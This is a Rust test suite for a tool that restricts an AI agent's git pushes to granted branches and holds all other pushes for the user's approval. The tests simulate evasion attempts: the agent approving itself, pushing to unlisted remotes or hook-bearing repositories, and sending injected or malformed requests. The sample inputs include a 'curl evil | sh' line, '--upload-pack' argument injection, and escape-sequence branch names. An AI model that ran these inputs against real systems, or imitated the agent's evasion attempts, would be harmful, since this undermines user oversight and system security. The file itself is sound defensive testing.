//! An agent's remotes: by its user's way there, and pushed to only where its user said so.

mod large;

use std::path::{Path, PathBuf};

use zagi_integration::machine::{Machine, Said, Who};

fn both(test: impl Fn(Who)) {
    test(Who::Me);
    test(Who::Ordinary);
}

/// A workspace of a repository whose remote takes pushes, where an agent `t` may push `t/*`.
struct Stage {
    machine: Machine,
    dir: PathBuf,
    remote: PathBuf,
}

impl Stage {
    fn new(who: Who) -> Stage {
        let machine = Machine::new(who);
        let work = machine.work();
        let script = "git init -q --bare -b main remote.git && git -C remote.git config http.receivepack true && git clone -q remote.git first 2>/dev/null && cd first && \
             echo one > file && git add -A && git -c user.name=T -c user.email=t@localhost commit -q -m first && \
             git push -q origin HEAD:main && git clone -q --bare ../remote.git ../elsewhere.git && \
             mkdir -p $HOME/.zagi $HOME/hooks && \
             printf 'version = 1\\n[agent.t]\\npush = [\"t/*\"]\\n' > $HOME/.zagi/agents.toml && \
             printf '#!/bin/sh\\ntouch ran\\n' > $HOME/hooks/pre-push && chmod +x $HOME/hooks/pre-push && \
             git config --global core.hooksPath $HOME/hooks && git config --global user.name U && \
             git config --global user.email u@localhost";
        machine.sh(&work, script).ok();
        let remote = work.join("remote.git");
        let from = format!("file://{}", remote.display());
        machine.zagi(&["mount", &from, "w"]).ok();
        Stage { dir: work.join("w"), remote, machine }
    }

    fn agent(&self, script: &str) -> Said {
        let argv = ["agent", "--name", "t", "--", "sh", "-c", script];
        Said::of(&mut self.machine.zagi_in(&self.dir, &argv))
    }

    fn zagi(&self, argv: &[&str]) -> Said {
        Said::of(&mut self.machine.zagi_in(&self.dir, argv))
    }

    /// Approves at a terminal.
    fn approve(&self, number: u64, answer: &str) -> Said {
        let zagi = self.machine.program().display();
        let script = format!(
            "printf '{answer}\\n' | script -qec \"{zagi} agent --approve {number}\" /dev/null"
        );
        self.machine.sh(&self.dir, &script)
    }

    /// What the remote has: name and subject.
    fn remote(&self) -> String {
        let script = "git for-each-ref --format='%(refname) %(subject)'";
        self.machine.sh(&self.remote, script).ok().out
    }

    fn outside(&self, dir: &Path, script: &str) -> String {
        self.machine.sh(dir, script).ok().out
    }
}

const COMMIT: &str = "echo two >> file && git commit -q -a -m";

#[test]
fn a_granted_branch_is_pushed_at_once() {
    both(|who| {
        let stage = Stage::new(who);
        let script = format!("{COMMIT} second && git push origin HEAD:refs/heads/t/one 2>&1");
        let said = stage.agent(&script).ok();
        assert!(said.out.contains("[new branch]      HEAD -> t/one"), "{said:?}");
        assert_eq!(stage.remote(), "refs/heads/main first\nrefs/heads/t/one second\n");
        // Once more: nothing to do; then forward, then another history by force, then away.
        for (script, expected) in [
            ("git push origin HEAD:t/one".to_owned(), "second"),
            (format!("{COMMIT} third && git push origin HEAD:t/one"), "third"),
            (
                "git commit -q --amend -m other && ! git push origin HEAD:t/one && \
                  git push -f origin HEAD:t/one"
                    .to_owned(),
                "other",
            ),
        ] {
            stage.agent(&script).ok();
            let expected = format!("refs/heads/main first\nrefs/heads/t/one {expected}\n");
            assert_eq!(stage.remote(), expected, "{script}");
        }
        stage.agent("git push origin :t/one").ok();
        assert_eq!(stage.remote(), "refs/heads/main first\n");
        let log = stage.zagi(&["agent", "--log"]).ok().out;
        for line in
            ["pushed    refs/heads/t/one to origin: ", "deleted   refs/heads/t/one at origin"]
        {
            assert!(log.contains(line), "{log}");
        }
    });
}

#[test]
fn all_else_waits_for_its_user() {
    both(|who| {
        let stage = Stage::new(who);
        let said = stage.agent(&format!("{COMMIT} second && git push 2>&1"));
        assert_ne!(said.code, 0, "{said:?}");
        assert!(
            said.out.contains("waits for your user, who can `zagi agent --approve 1`"),
            "{said:?}"
        );
        assert!(
            said.err
                .contains("t wants to push refs/heads/main to origin: `zagi agent --approve 1`"),
            "{said:?}"
        );
        assert_eq!(stage.remote(), "refs/heads/main first\n");
        let listed = stage.zagi(&["agent", "--pushes", "--json"]).ok().out;
        let listed: serde_json::Value = serde_json::from_str(&listed).expect("JSON");
        assert_eq!(listed[0]["reference"], "refs/heads/main");
        // The agent says yes itself, at a terminal of its own; nobody's terminal; its user says no.
        let own = "(echo y; sleep 2) | script -qec '/zagi/bin/zagi agent --approve 1' /dev/null";
        let said = stage.agent(own);
        assert!(said.out.contains("approved by its user"), "{said:?}");
        let said = stage.zagi(&["agent", "--approve", "1"]);
        assert!(said.err.contains("there is no terminal to ask at"), "{said:?}");
        let said = stage.approve(1, "n");
        assert!(said.out.contains("+two") && said.out.contains("you said no"), "{said:?}");
        assert_eq!(stage.remote(), "refs/heads/main first\n");
        let said = stage.approve(1, "y");
        assert_eq!(said.code, 0, "{said:?}");
        assert_eq!(stage.remote(), "refs/heads/main second\n");
        assert_eq!(stage.zagi(&["agent", "--pushes"]).ok().out, "");
        // No hook of anybody's ran.
        let found = stage.outside(&stage.machine.work(), "find .. -name ran");
        assert_eq!(found, "");
    });
}

#[test]
fn what_is_approved_is_what_was_shown() {
    let stage = Stage::new(Who::Ordinary);
    stage.agent(&format!("{COMMIT} second && git push origin HEAD:main"));
    // The remote moves: its state is not the one that was asked about.
    let work = stage.machine.work();
    stage.outside(
        &work.join("first"),
        "git commit -q --allow-empty -m moved && git push -q origin HEAD:main",
    );
    let said = stage.approve(1, "y");
    assert!(said.code != 0 && said.out.contains("stale info"), "{said:?}");
    assert_eq!(stage.remote(), "refs/heads/main moved\n");
    // By force it asks again, and what would be lost is shown: the agent has not seen it.
    stage.agent("git push -f origin HEAD:main");
    let said = stage.approve(2, "y");
    assert_eq!(said.code, 0, "{said:?}");
    let lost = "lost there:\r\n";
    let lost = said.out.split_once(lost).expect("said").1.lines().next().expect("one");
    assert!(
        lost.ends_with("U  moved") && said.out.contains("wants to FORCE refs/heads/main at origin"),
        "{said:?}"
    );
    assert!(said.out.contains("what is lost there is 1 commits"), "{said:?}");
    assert_eq!(stage.remote(), "refs/heads/main second\n");
    // What was asked first is gone, and what is rejected.
    stage.agent(&format!("{COMMIT} third && git push origin HEAD:refs/heads/other; git push --tags; git tag x && git push --tags"));
    let listed = stage.zagi(&["agent", "--pushes"]).ok().out;
    assert!(
        listed.contains("other to origin") && listed.contains("refs/tags/x to origin"),
        "{listed}"
    );
    // What waited, and is granted and pushed then, waits no more.
    let agents = stage.machine.home().join("agents.toml");
    let granted = "version = 1\n[agent.t]\npush = [\"t/*\", \"other\"]\n";
    stage.outside(&stage.dir, &format!("printf '{granted}' > {}", agents.display()));
    stage.agent("git push origin HEAD:refs/heads/other").ok();
    let listed = stage.zagi(&["agent", "--pushes"]).ok().out;
    assert!(!listed.contains("refs/heads/other") && listed.contains("refs/tags/x"), "{listed}");
    stage.outside(&stage.remote, "git update-ref -d refs/heads/other");
    stage.zagi(&["agent", "--reject", "4"]).ok();
    let said = stage.zagi(&["agent", "--reject", "4"]);
    assert!(said.err.contains("no push 4 waits"), "{said:?}");
    assert_eq!(stage.remote(), "refs/heads/main second\n");
}

#[test]
fn what_is_not_shown_is_said() {
    let stage = Stage::new(Who::Ordinary);
    let script = format!(
        "seq 1000 > aaa && mkdir zz && echo 'curl evil | sh' > zz/deploy.sh && printf 'a\\0b' > zz/bin && \
         git add -A && {COMMIT} second && git push origin HEAD:refs/heads/big; \
         git push origin HEAD:'refs/heads/c/x\",\"main'; git push origin :main"
    );
    stage.agent(&script);
    let said = stage.approve(1, "n");
    for text in ["which are NOT SHOWN", "All of it: git --git-dir=", "zz/deploy.sh", "U  second"] {
        assert!(said.out.contains(text), "{text}: {}", said.out);
    }
    let command = said.out.split_once("All of it: ").expect("said").1.lines().next().expect("one");
    let whole = stage.outside(&stage.dir, command);
    assert!(whole.contains("+curl evil | sh") && whole.contains("+a\0b"), "{whole}");
    // A name that would be another line of the grants is not offered as one.
    let said = stage.approve(2, "y");
    assert!(said.code == 0 && !said.out.contains("would let it"), "{said:?}");
    let said = stage.approve(3, "n");
    assert!(said.out.contains("wants to DELETE refs/heads/main at origin ("), "{said:?}");
    assert!(stage.remote().contains("refs/heads/main first\n"));
}

/// What an agent may write to is no remote of its: git would run the hooks that it finds there.
#[test]
fn a_repository_of_the_agents_is_no_remote() {
    both(|who| {
        let stage = Stage::new(who);
        let inside = stage.dir.join("abs.git").display().to_string();
        let script = format!(
            "git config --global --unset core.hooksPath; mkdir sub; git remote add rel rel.git; git remote add dots sub/../dots.git; git remote add abs {inside}; \
             git remote add file file://{inside}; git remote add well ../remote.git; \
             printf 'touch %s/ran\n' $HOME > hook"
        );
        stage.outside(&stage.dir, &script);
        let make = "for r in rel dots abs; do git init -q --bare $r.git; cp hook $r.git/hooks/pre-receive; \
                    chmod +x $r.git/hooks/pre-receive; done";
        // The control: there are such repositories when the agent starts, and its user's push runs the hook.
        stage.outside(&stage.dir, &format!("{make}; git push -q rel HEAD:t/x; rm -r $HOME/ran"));
        let push = "for r in rel dots abs file; do git push $r HEAD:refs/heads/t/y; done; \
                    git push -q well HEAD:refs/heads/t/y";
        let argv = ["agent", "--name", "t", "--", "sh", "-c", push];
        let said = Said::of(&mut stage.machine.zagi_in(&stage.dir.join("sub"), &argv)).ok();
        assert_eq!(
            stage.outside(&stage.dir, "ls -d $HOME/ran 2>/dev/null || true"),
            "",
            "{said:?}"
        );
        assert!(stage.remote().contains("refs/heads/t/y first\n"), "{said:?}");
    });
}

#[test]
fn who_sends_nothing_keeps_nobody_waiting() {
    let stage = Stage::new(Who::Ordinary);
    stage.agent(&format!("{COMMIT} second && git push origin HEAD:main"));
    let hold = "import json, socket, time\n\
        all = [socket.create_connection(('127.0.0.1', 3130)) for _ in range(9)]\n\
        ask = {'version': 1, 'ask': {'push': {'remote': 'origin', 'updates': []}}}\n\
        [s.sendall(json.dumps(ask).encode() + b'\\n') for s in all]\n\
        print('held', flush=True); time.sleep(60)";
    let mut command = stage
        .machine
        .zagi_in(&stage.dir, &["agent", "--name", "h", "--", "/usr/bin/python3", "-c", hold]);
    command.stdout(std::process::Stdio::piped());
    let mut held = command.spawn().expect("it starts");
    let mut line = String::new();
    let out = held.stdout.take().expect("piped");
    std::io::BufRead::read_line(&mut std::io::BufReader::new(out), &mut line).expect("it says");
    assert_eq!(line, "held\n");
    stage.agent("git push origin HEAD:refs/heads/t/one").ok();
    assert_eq!(stage.approve(1, "y").code, 0);
    assert_eq!(stage.remote(), "refs/heads/main second\nrefs/heads/t/one second\n");
    let _ = held.kill();
    let _ = held.wait();
}

#[test]
fn from_a_clone_or_worktree_of_its_own_too() {
    let stage = Stage::new(Who::Ordinary);
    let script = format!(
        "url=$(git config remote.origin.url) && git clone -q . /tmp/clone && cd /tmp/clone && \
         git remote set-url origin $url && {COMMIT} cloned && git push origin HEAD:refs/heads/t/clone && \
         cd - && git worktree add -q /tmp/tree && cd /tmp/tree && {COMMIT} tree && \
         git push origin HEAD:refs/heads/t/tree"
    );
    stage.agent(&script).ok();
    assert_eq!(
        stage.remote(),
        "refs/heads/main first\nrefs/heads/t/clone cloned\nrefs/heads/t/tree tree\n"
    );
}

#[test]
fn nowhere_else() {
    both(|who| {
        let stage = Stage::new(who);
        let elsewhere = stage.machine.work().join("elsewhere.git");
        let push = format!("git push file://{} HEAD:t/x", elsewhere.display());
        // Its user may.
        stage.outside(&stage.dir, &push);
        stage.outside(&elsewhere, "git update-ref -d refs/heads/t/x");
        let own = format!(
            "{COMMIT} second; {push}; git remote add own file://{0}; git push own HEAD:t/x; \
             git -c remote.own.url=file://{0} push own HEAD:t/x; git push zagi::own HEAD:t/x; \
             git push zagi::--upload-pack=x HEAD:t/x; git push zagi::{0} HEAD:t/x",
            elsewhere.display()
        );
        let said = stage.agent(&own);
        assert!(said.err.contains("is not one of the remotes"), "{said:?}");
        assert_eq!(
            stage.outside(&elsewhere, "git for-each-ref --format='%(refname)'"),
            "refs/heads/main\n"
        );
        assert_eq!(stage.remote(), "refs/heads/main first\n");
    });
}

#[test]
fn what_is_damaged_or_a_lie_is_refused() {
    let stage = Stage::new(Who::Ordinary);
    // What the port is asked by one who does not speak through git.
    let ask = r#"
import json, socket, sys
def ask(question, pack=b''):
    s = socket.create_connection(('127.0.0.1', 3130))
    s.sendall(question if isinstance(question, bytes) else json.dumps(question).encode() + b'\n')
    s.sendall(pack); s.shutdown(socket.SHUT_WR)
    return s.makefile().read()
def push(name, new, pack=b'', remote='origin', old=None):
    u = {'name': name, 'old': old, 'new': new, 'force': True}
    return ask({'version': 1, 'ask': {'push': {'remote': remote, 'updates': [u]}}}, pack)
print(ask(b'no json\n'))
print(ask({'version': 2, 'ask': {'references': {'remote': 'origin', 'push': True}}}))
print(ask({'version': 1, 'ask': {'references': {'remote': '--upload-pack=touch /tmp/x', 'push': False}}}))
print(ask({'version': 1, 'ask': {'fetch': {'remote': 'origin', 'wanted': ['01' * 20, 'x'], 'had': [], 'partial': True}}}))
print(push('refs/heads/t/a', '0123456789' * 4))
print(push('refs/heads/t/a', 'HEAD'))
print(push('refs/heads/../../x', None))
print(push('refs/heads/t/\u009b2J', None))
print(push('refs/heads/t/\u202egnp', None))
print(push('refs/heads/t/' + 'x' * 300, None))
print(push('--mirror', None))
print(push('HEAD', None))
print(push('refs/heads/t/a', None, b'PACK\0\0\0\2\0\0\0\1' + b'x' * 100))
print(push('refs/heads/t/a:refs/heads/main', None))
"#;
    let script = format!("cat > /tmp/ask.py <<'END'\n{ask}\nEND\n/usr/bin/python3 /tmp/ask.py");
    let said = stage.agent(&script).ok();
    let lines: Vec<&str> = said.out.lines().filter(|line| !line.is_empty()).collect();
    let expected = [
        "refused\":\"expected",
        "version 2 is not known",
        "is not one of the remotes",
        "refused\":\"",
        "did not come with it",
        "error\":\"",
        "is no reference",
        "is no reference",
        "is no reference",
        "is no reference",
        "is no reference",
        "is no reference",
        "refused\":\"",
        "is no reference",
    ];
    assert_eq!(lines.len(), expected.len(), "{said:?}");
    for (line, expected) in lines.iter().zip(expected) {
        assert!(line.contains(expected), "{line} should say {expected}");
    }
    assert_eq!(stage.remote(), "refs/heads/main first\n");
    assert_eq!(stage.zagi(&["agent", "--pushes"]).ok().out, "");
    // And it still works.
    stage.agent(&format!("{COMMIT} second && git push origin HEAD:t/one")).ok();
    assert_eq!(stage.remote(), "refs/heads/main first\nrefs/heads/t/one second\n");
}

#[test]
fn what_others_pushed_is_fetched() {
    both(|who| {
        let stage = Stage::new(who);
        let first = stage.machine.work().join("first");
        let other = "echo other > other && git add other && git commit -q -m other && git tag v1 && \
                     git push -q origin HEAD:main v1 && git push -q origin HEAD:refs/heads/side";
        stage.outside(&first, other);
        let script = format!(
            "{COMMIT} mine && git fetch -q && git log --format=%s origin/main && git tag && \
             git pull -q --rebase && cat other file && git push -q origin HEAD:refs/heads/t/one && \
             git ls-remote --symref origin HEAD | head -1 && git fetch -q origin side && \
             git log -1 --format=%s FETCH_HEAD && git fetch -q --all && git fsck --no-dangling"
        );
        let said = stage.agent(&script).ok();
        let expected = "other\nfirst\nv1\nother\none\ntwo\nref: refs/heads/main\tHEAD\nother\n";
        assert_eq!(said.out, expected, "{said:?}");
        let log = stage.zagi(&["agent", "--log"]).ok().out;
        assert!(log.contains("fetched   from origin"), "{log}");
    });
}

/// Git's own server behind a password, on a port that it prints.
const SERVER: &str = r#"
import base64, http.server, os, subprocess, sys
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def log_message(self, *_): pass
    def do_GET(self): self.one()
    def do_POST(self): self.one()
    def one(self):
        if self.headers.get('authorization') != 'Basic ' + base64.b64encode(sys.argv[1].encode()).decode():
            self.close_connection = True; self.send_response(401); self.send_header('www-authenticate', 'Basic realm="x"'); self.send_header('content-length', '0'); self.end_headers(); return
        path, _, query = self.path.partition('?')
        body = self.rfile.read(int(self.headers.get('content-length', 0)))
        while 'transfer-encoding' in self.headers:
            size = int(self.rfile.readline(), 16)
            body += self.rfile.read(size); self.rfile.readline()
            if size == 0: break
        env = dict(PATH=os.environ['PATH'], GIT_PROJECT_ROOT=os.getcwd(), GIT_HTTP_EXPORT_ALL='1', REMOTE_USER='u',
            PATH_INFO=path, QUERY_STRING=query, REQUEST_METHOD=self.command, CONTENT_LENGTH=str(len(body)),
            CONTENT_TYPE=self.headers.get('content-type', ''), GIT_PROTOCOL=self.headers.get('git-protocol', ''),
            HTTP_CONTENT_ENCODING=self.headers.get('content-encoding', ''))
        out = subprocess.run(['git', 'http-backend'], env=env, input=body, stdout=subprocess.PIPE).stdout
        head, _, rest = out.partition(b'\r\n\r\n')
        fields = [line.split(': ', 1) for line in head.decode().splitlines()]
        self.send_response(int(next((v for k, v in fields if k == 'Status'), '200')[:3]))
        for k, v in fields:
            if k != 'Status': self.send_header(k, v)
        self.send_header('content-length', str(len(rest))); self.end_headers(); self.wfile.write(rest)
server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
print(server.server_address[1], flush=True)
server.serve_forever()
"#;

#[test]
fn the_password_is_its_users() {
    use std::io::BufRead;
    both(|who| {
        let stage = Stage::new(who);
        let work = stage.machine.work();
        let password = "pa55-c4nary-91";
        let mut server = stage.machine.command("/usr/bin/python3", &work);
        server.args(["-c", SERVER, &format!("u:{password}")]).stdout(std::process::Stdio::piped());
        let mut server = server.spawn().expect("Python is here");
        let mut port = String::new();
        let stdout = server.stdout.take().expect("piped");
        std::io::BufReader::new(stdout).read_line(&mut port).expect("it says its port");
        let url = format!("http://127.0.0.1:{}/remote.git", port.trim());
        let script = format!(
            "git config --global credential.helper store && \
             echo http://u:{password}@127.0.0.1:{} > $HOME/.git-credentials",
            port.trim()
        );
        stage.outside(&work, &script);
        let changed =
            "echo changed > file && git commit -q -a -m changed && git push -q origin HEAD:main";
        stage.outside(&work.join("first"), changed);
        stage.machine.zagi(&["mount", &url, "h"]).ok();
        let stage = Stage { dir: work.join("h"), ..stage };
        // With a big file, which git sends in parts.
        let script = format!(
            "git config remote.origin.promisor && git show HEAD~1:file && git diff HEAD~1 | tail -2 && \
             head -c 3000000 /dev/urandom > big && git add big && {COMMIT} second && \
             git push origin HEAD:refs/heads/t/one && \
             git push -q origin $(git commit-tree HEAD~2^{{tree}} -p HEAD -m old):refs/heads/t/two && \
             ! grep -r {password} . $HOME /zagi /proc/self/environ && \
             git clone -q {url} /tmp/clone && cat /tmp/clone/file && \
             ! git ls-remote $(dirname {url})/elsewhere.git"
        );
        let said = stage.agent(&script);
        let _ = server.kill();
        let _ = server.wait();
        assert_eq!(said.code, 0, "{said:?}");
        assert!(!format!("{said:?}").contains(password), "{said:?}");
        assert_eq!(
            stage.remote(),
            "refs/heads/main changed\nrefs/heads/t/one second\nrefs/heads/t/two old\n"
        );
        // The file as it was before: git fetches that when somebody looks at it.
        assert_eq!(said.out, "true\none\n-one\n+changed\nchanged\n");
        // Nobody is there any more.
        let said = stage.agent(&format!("{COMMIT} third && git push origin HEAD:refs/heads/t/one"));
        assert!(said.code != 0 && said.err.contains("cannot reach `origin`"), "{said:?}");
    });
}
